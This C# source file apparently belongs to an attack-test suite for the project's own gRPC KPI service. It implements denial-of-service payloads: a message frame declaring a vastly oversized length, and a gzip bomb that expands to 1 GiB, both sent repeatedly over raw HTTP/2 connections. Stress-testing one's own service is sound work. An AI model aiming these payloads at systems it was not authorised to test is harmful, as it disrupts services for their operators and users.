using System.IO.Compression;
using KpiPlatform.Attack.Http2;

namespace KpiPlatform.Attack.Attacks;

/// <summary>Messages that are larger than they may be.</summary>
internal static class Messages
{
    private const string Path = "/kpi.v1.InteractionService/RecordInteraction";
    private const int Connections = 4;
    private const int PerSecond = 20;
    private const int Inflated = 1024 * 1024 * 1024;

    public static Task OversizedAsync(Target target, CancellationToken cancellationToken) =>
        SendAsync(target, encoding: null, Frame.Message(isCompressed: false, uint.MaxValue / 2, new byte[512 * 1024]), cancellationToken);

    public static Task GzipBombAsync(Target target, CancellationToken cancellationToken)
    {
        var bomb = Bomb();
        return SendAsync(target, "gzip", Frame.Message(isCompressed: true, (uint)bomb.Length, bomb), cancellationToken);
    }

    private static byte[] Bomb()
    {
        using var compressed = new MemoryStream();
        using (var gzip = new GZipStream(compressed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < Inflated / zeros.Length; i++)
                gzip.Write(zeros);
        }

        return compressed.ToArray();
    }

    private static Task SendAsync(Target target, string? encoding, byte[] message, CancellationToken cancellationToken) => target.RepeatAsync(
        Connections,
        async (number, stopping) =>
        {
            using var connection = await RawConnection.OpenAsync(target.Address, Target.From(number), stopping);
            var pace = new Pace(PerSecond);
            while (!connection.Closed.IsCompleted)
            {
                var ended = connection.Ended;
                var stream = await connection.CallAsync(HeaderBlock.Call(Path, target.Key, encoding), stopping);
                for (var at = 0; at < message.Length && connection.Ended == ended && !connection.Closed.IsCompleted; at += 64 * 1024)
                {
                    await connection.SendAsync(stream, message.AsMemory(at, Math.Min(64 * 1024, message.Length - at)), at + (64 * 1024) >= message.Length, stopping);
                    await Task.Delay(TimeSpan.FromMilliseconds(1), stopping);
                }

                target.Count();
                await pace.StepAsync(stopping);
            }

            target.CountClosed();
        },
        cancellationToken);
}
